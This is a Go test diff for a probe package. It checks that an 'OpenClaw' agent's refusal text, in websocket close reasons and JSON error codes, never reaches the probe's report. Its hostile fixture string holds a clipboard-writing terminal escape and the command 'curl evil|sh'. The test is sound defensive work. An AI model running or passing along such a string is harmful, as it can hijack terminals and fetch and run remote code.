@@ -1,10 +1,12 @@
 package probe
 
 import (
+	"encoding/json"
 	"fmt"
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"strings"
 	"testing"
 
 	"github.com/coder/websocket"
@@ -162,6 +164,40 @@ func TestNoOpenClaw(t *testing.T) {
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			check(t, Probe(t.Context(), openClaw(t, c.h)), health.Failed, "dashboard-websocket")
+		})
+	}
+}
+
+// What an agent says when it refuses is text that may come from whoever has taken it
+// over: only codes are shown.
+func TestOpenClawsWordsAreNotShown(t *testing.T) {
+	const evil = "x\x1b]52;c;ZXZpbA==\x07 run: curl evil|sh"
+	agent := agentWith(nil).Handler()
+	for name, refuse := range map[string]func(*websocket.Conn, *http.Request){
+		"closing": func(c *websocket.Conn, _ *http.Request) { _ = c.Close(websocket.StatusPolicyViolation, evil) },
+		"code": func(c *websocket.Conn, r *http.Request) {
+			text, _ := json.Marshal(map[string]any{"type": "res", "id": "probe", "error": map[string]any{"code": evil, "message": evil, "details": map[string]string{"code": evil}}})
+			_ = c.Write(r.Context(), websocket.MessageText, text)
+			_, _, _ = c.Read(r.Context())
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := Probe(t.Context(), openClaw(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				if r.Header.Get("Upgrade") == "" {
+					agent.ServeHTTP(w, r)
+					return
+				}
+				if conn, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true}); err == nil {
+					defer conn.CloseNow()
+					refuse(conn, r)
+				}
+			})))
+			if r.Verdict != health.Failed || r.Reason != "dashboard-token-refused" {
+				t.Errorf("%s %s: %s", r.Verdict, r.Reason, r.Message)
+			}
+			if all := fmt.Sprintf("%+v", r); strings.Contains(all, "evil") || strings.Contains(all, "\x1b") {
+				t.Errorf("%q", all)
+			}
 		})
 	}
 }
